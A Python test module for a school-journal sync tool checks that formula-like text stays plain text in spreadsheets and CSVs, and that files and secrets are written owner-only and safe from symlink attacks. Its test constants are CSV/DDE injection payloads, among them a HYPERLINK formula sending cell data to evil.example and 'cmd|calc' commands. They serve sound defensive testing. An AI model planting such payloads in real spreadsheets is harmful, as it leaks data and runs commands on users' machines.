"""What journalsync writes is safe to open and to keep: text never becomes a spreadsheet formula,
and every file is owner-only (0600, folders 0700) whatever the umask.

End to end over loopback: the АВЕРС emulator serves a world in which a subject name and a
student's surname start with a formula character (platform data); a school's CSV journal brings
a topic and a homework that do too (an import). The CLI pulls, imports, syncs (the worklist
channel), and writes the worklists, a package and reports; every cell is read back, and every
file and folder the CLI created is checked for owner-only modes.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import stat
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from openpyxl import load_workbook

import core.files as core_files
from connectors.sandbox import World, WorldSize
from connectors.sandbox.server import serve_in_thread
from core.documents import Column, Section, TableDocument, csv_text, write_pdf, write_xlsx
from core.model import ClassUnit, Group, Lesson, Person, Subject
from core.store import Store
from journalsync.credentials_cmd import write_secret
from journalsync.sandbox_cmd import emulator_factory

PLATFORM = "avers"
SIZE = WorldSize(grades=(5,), letters=1, students_per_class=6, weeks=2)

# From the platform (the emulator's world):
SUBJECT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SURNAME = "=cmd|'/Ccalc'!A0"  # one word: platforms split full names on spaces
# From the school's CSV journal:
IMPORTED_TOPIC = "=1+2"
IMPORTED_HOMEWORK = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULAS = (SUBJECT, SURNAME, IMPORTED_TOPIC, IMPORTED_HOMEWORK)


@dataclass(frozen=True)
class Run:
    out: Path
    db: str
    env: dict[str, str]
    school: str
    pre_existing: set[Path]


def _poisoned_world() -> tuple[World, str, str]:
    """The generated world with formula-like text where platform data can carry it."""
    world = World.generate(5, SIZE)
    school = next(iter(world.schools.values()))
    account = world.accounts(school.slug, "student")[0]
    student = world.account(account.login)
    assert student is not None and student.class_id is not None
    student.last_name = SURNAME
    group = next(g for g in world.groups.values() if g.class_id == student.class_id)
    subject = world.subjects[group.subject_id]
    world.subjects[group.subject_id] = dataclasses.replace(subject, name=SUBJECT)
    return world, account.login, account.password


def _cli(run: Run, *args: str) -> subprocess.CompletedProcess[str]:
    out = subprocess.run(
        [sys.executable, "-m", "journalsync", *args],
        env=run.env,
        cwd=run.out.parent,
        capture_output=True,
        text=True,
        timeout=300,
        umask=0o022,  # the usual umask: what the CLI writes must be 0600 anyway
    )
    assert out.returncode == 0, (args, out.stdout[-2000:], out.stderr[-2000:])
    return out


def _local_journal(store: Store, school: str) -> str:
    """Two lessons of the pulled class: a topic and a homework that start like a formula, and
    a mark for the student whose surname does."""
    remote = list(store.remote_records(school, PLATFORM))
    student = next(r for r in remote if isinstance(r, Person) and r.last_name == SURNAME)
    student_name = " ".join(
        x for x in (student.last_name, student.first_name, student.middle_name) if x
    )
    subjects = {r.id: r for r in remote if isinstance(r, Subject)}
    classes = {r.id: r for r in remote if isinstance(r, ClassUnit)}
    groups = {r.id: r for r in remote if isinstance(r, Group) and r.subgroup == 0}
    lessons = sorted(
        (r for r in remote if isinstance(r, Lesson) and r.group_id in groups),
        key=lambda le: (le.date, le.number),
    )[-2:]
    rows = [["kind", "class", "subject", "subgroup", "date", "lesson", "student", "work_type",
             "value", "code", "topic", "text"]]  # fmt: skip
    for le, (kind, topic, text) in zip(
        lessons,
        (("topic", IMPORTED_TOPIC, ""), ("homework", "", IMPORTED_HOMEWORK)),
        strict=True,
    ):
        g = groups[le.group_id]
        rows.append([kind, classes[g.class_id].name, subjects[g.subject_id].name, "",
                     le.date.isoformat(), str(le.number), "", "", "", "", topic, text])  # fmt: skip
        rows.append(["mark", classes[g.class_id].name, subjects[g.subject_id].name, "",
                     le.date.isoformat(), str(le.number), student_name, "answer", "5",
                     "", "", ""])  # fmt: skip
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def _tree(root: Path) -> set[Path]:
    return {root, *root.rglob("*")} if root.exists() else set()


@pytest.fixture(scope="module")
def cli_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
    base = tmp_path_factory.mktemp("safe")
    out = base / "out"  # does not exist yet: every folder below it is created by journalsync
    world, login, password = _poisoned_world()
    school = next(iter(world.schools.values()))
    with serve_in_thread(emulator_factory(PLATFORM)(world)) as server:
        env = {
            **os.environ,
            "JOURNALSYNC_PASSWORD": password,
            "JOURNALSYNC_SECRET_KEY_FILE": str(out / "keys" / "secret.key"),
            "PYTHONPATH": os.pathsep.join(sys.path),
        }
        run = Run(out, f"sqlite:///{out / 'store' / 'journal.db'}", env, school.slug, set())
        remote = ["--school", school.slug, "--platform", PLATFORM, "--base-url",
                  server.base_url, "--platform-school", school.short_name, "--login", login,
                  "--db", run.db]  # fmt: skip
        _cli(run, "pull", *remote, "--today", world.today.isoformat())

        with Store.open(run.db) as store:
            journal = _local_journal(store, school.slug)
        csv_path = base / "paper-journal.csv"  # the school's file, not journalsync's
        csv_path.write_text(journal, encoding="utf-8")
        imported = _cli(run, "import", str(csv_path), "--school", school.slug,
                        "--platform", PLATFORM, "--db", run.db)  # fmt: skip
        assert "0 rows quarantined" in imported.stdout, imported.stdout

        _cli(run, "sync", *remote)
        school_opts = ["--school", school.slug, "--platform", PLATFORM, "--db", run.db]
        _cli(run, "worklist", *school_opts, "--out", str(out / "worklists"))
        _cli(run, "package", *school_opts, "--scope", "journal", "--out", str(out / "packages"))
        _cli(run, "report", "compliance", "--school", school.slug, "--platform", PLATFORM,
             "--db", run.db, "--out", str(out / "reports" / "compliance.xlsx"))  # fmt: skip
        _cli(run, "report", "summary", "--school", school.slug, "--platform", PLATFORM,
             "--db", run.db, "--out", str(out / "reports" / "summary.xlsx"))  # fmt: skip
        yield run


def _string_cells(data: bytes) -> Iterator[tuple[str, str, str]]:
    """(sheet, value, data_type) of every text cell of an XLSX."""
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield ws.title, cell.value, cell.data_type


def _formula_cells(data: bytes) -> dict[str, str]:
    """The cells holding one of the injected values, value → data type (all must be «s»)."""
    found: dict[str, str] = {}
    for _sheet, value, kind in _string_cells(data):
        for formula in FORMULAS:
            if formula in value:
                # a value may be quoted inside a longer text («Предмет: =HYPERLINK…»)
                found.setdefault(formula, kind)
                if kind != "s":
                    found[formula] = kind
        if value.startswith("=") or kind == "f":
            assert kind == "s", (value, kind)
    return found


@pytest.mark.slow  # the CLI run behind them: ~1 min on a shared machine
def test_worklists_keep_formula_like_text_as_text(cli_run: Run) -> None:
    books = sorted((cli_run.out / "worklists").glob("*.xlsx"))
    assert books, "the sync queued worklist entries"
    seen: dict[str, str] = {}
    for book in books:
        seen |= _formula_cells(book.read_bytes())
    # the surname is on the mark's line, the imported topic and homework on theirs, the subject
    # in the lesson heading — from the import and from the platform alike
    assert {SUBJECT, SURNAME, IMPORTED_TOPIC, IMPORTED_HOMEWORK} <= set(seen), seen
    assert set(seen.values()) == {"s"}, seen


@pytest.mark.slow  # the CLI run behind them: ~1 min on a shared machine
def test_package_keeps_formula_like_text_as_text(cli_run: Run) -> None:
    (package,) = (cli_run.out / "packages").glob("*.zip")
    with zipfile.ZipFile(package) as zf:
        journals = [n for n in zf.namelist() if n.startswith("journal/")]
        seen: dict[str, str] = {}
        for name in journals:
            seen |= _formula_cells(zf.read(name))
        users = zf.read("users.csv").decode("utf-8")
        courses = zf.read("courses.csv").decode("utf-8")
        readme = zf.read("README.txt").decode("utf-8-sig")
    # the whole local journal (platform-only lessons are not in it): subject and surname from
    # the platform, topic and homework from the import
    assert {SUBJECT, SURNAME, IMPORTED_TOPIC, IMPORTED_HOMEWORK} <= set(seen), seen
    assert set(seen.values()) == {"s"}, seen
    # OneRoster CSVs: the OWASP convention, a leading «'» (the README says so)
    family = {row["familyName"] for row in csv.DictReader(io.StringIO(users))}
    titles = {row["title"] for row in csv.DictReader(io.StringIO(courses))}
    assert "'" + SURNAME in family and SURNAME not in family
    assert "'" + SUBJECT in titles and SUBJECT not in titles
    assert "апострофом" in readme


@pytest.mark.slow  # the CLI run behind them: ~1 min on a shared machine
def test_reports_keep_formula_like_text_as_text(cli_run: Run) -> None:
    seen: dict[str, str] = {}
    for report in sorted((cli_run.out / "reports").glob("*.xlsx")):
        seen |= _formula_cells(report.read_bytes())
    assert {SUBJECT, SURNAME} <= set(seen), seen
    assert set(seen.values()) == {"s"}, seen


@pytest.mark.slow  # the CLI run behind them: ~1 min on a shared machine
def test_every_file_and_folder_the_cli_wrote_is_owner_only(cli_run: Run) -> None:
    written = _tree(cli_run.out)
    files = sorted(p for p in written if p.is_file())
    folders = sorted(p for p in written if p.is_dir())
    names = {p.name for p in files}
    assert "journal.db" in names, names
    assert any(n.endswith(".zip") for n in names) and any(n.endswith(".pdf") for n in names)
    bad = [
        (str(p.relative_to(cli_run.out.parent)), oct(stat.S_IMODE(p.stat().st_mode)))
        for p in files
        if stat.S_IMODE(p.stat().st_mode) != 0o600
    ] + [
        (str(p.relative_to(cli_run.out.parent)), oct(stat.S_IMODE(p.stat().st_mode)))
        for p in folders
        if stat.S_IMODE(p.stat().st_mode) != 0o700
    ]
    assert not bad, bad


def test_core_writers_are_owner_only_under_a_loose_umask(tmp_path: Path) -> None:
    """A library user (or the scheduler) calling core directly gets 0600 files too."""
    doc = TableDocument("Т", [Column("a"), Column("b")], [Section([[SUBJECT, -3]])])
    old = os.umask(0o022)
    try:
        store = Store.open(f"sqlite:///{tmp_path / 'lib' / 'store.db'}")
        with store.engine.begin() as conn:  # something in the WAL
            conn.exec_driver_sql("CREATE TABLE t (x)")
        xlsx = write_xlsx(tmp_path / "lib" / "docs" / "a.xlsx", doc)
        write_pdf(tmp_path / "lib" / "docs" / "a.pdf", doc)
        modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in (tmp_path / "lib").rglob("*")}
        store.close()
    finally:
        os.umask(old)
    assert modes == {
        "store.db": 0o600, "store.db-wal": 0o600, "store.db-shm": 0o600, "docs": 0o700,
        "a.xlsx": 0o600, "a.pdf": 0o600,
    }  # fmt: skip
    ws = load_workbook(xlsx).active
    assert ws is not None
    cells = {c.value: c.data_type for row in ws.iter_rows() for c in row if c.value is not None}
    assert cells[SUBJECT] == "s" and cells[-3] == "n"  # a negative number stays a number


def test_csv_text_follows_the_owasp_convention() -> None:
    assert csv_text("=1+2") == "'=1+2"
    assert csv_text("@SUM(A1)") == "'@SUM(A1)"
    assert csv_text("\tx") == "'\tx" and csv_text("\rx") == "'\rx"
    assert csv_text("+7 912 000-00-00") == "'+7 912 000-00-00"
    assert csv_text("-1") == "-1" and csv_text("+3.5") == "+3.5"  # numbers are data
    assert csv_text("Иванов") == "Иванов" and csv_text("") == ""


def test_secrets_file_refuses_to_follow_a_planted_symlink(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A symlink planted where the temporary file goes is refused (O_EXCL|O_NOFOLLOW), never
    written through; the old fixed temporary name is not used at all any more."""
    victim = tmp_path / "public.txt"
    victim.write_text("nothing here\n")
    victim.chmod(0o644)
    secrets_file = tmp_path / "conf" / "secrets.toml"
    secrets_file.parent.mkdir()
    (secrets_file.parent / "secrets.toml.tmp").symlink_to(victim)
    # The attacker guessed the next temporary name: the first try meets the link and fails.
    (secrets_file.parent / ".secrets.toml.guessed.tmp").symlink_to(victim)
    names = iter(["guessed", "fresh"])
    monkeypatch.setattr(core_files.secrets, "token_hex", lambda _n: next(names))
    write_secret(secrets_file, "school-1", "s3cr3t-value")
    assert victim.read_text() == "nothing here\n"
    assert stat.S_IMODE(victim.stat().st_mode) == 0o644
    assert stat.S_IMODE(secrets_file.stat().st_mode) == 0o600
    assert not secrets_file.is_symlink()
    assert "s3cr3t-value" in secrets_file.read_text()
    assert next(names, None) is None  # both names were tried


def test_credentials_set_states_the_mode_it_set(tmp_path: Path) -> None:
    target = tmp_path / "secrets.toml"
    (tmp_path / "secrets.toml.tmp").symlink_to(tmp_path / "elsewhere.toml")
    out = subprocess.run(
        [sys.executable, "-m", "journalsync", "credentials", "set", "k", "--file", str(target)],
        input="a-secret-value\n", capture_output=True, text=True, umask=0o022,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    assert "(mode 0600)" in " ".join(out.stdout.split())  # the mode it stat()ed
    assert not (tmp_path / "elsewhere.toml").exists()
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_credentials_set_refuses_a_secret_on_the_command_line(tmp_path: Path) -> None:
    secret = "hunter2-on-argv"
    for extra in ([secret], [secret, "more"]):
        out = subprocess.run(
            [sys.executable, "-m", "journalsync", "credentials", "set", "k", *extra,
             "--file", str(tmp_path / "secrets.toml")],
            capture_output=True, text=True, stdin=subprocess.DEVNULL,
            env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
        )  # fmt: skip
        assert out.returncode == 2, (out.stdout, out.stderr)
        assert secret not in out.stdout + out.stderr
        assert "command line" in out.stderr
        assert not (tmp_path / "secrets.toml").exists()
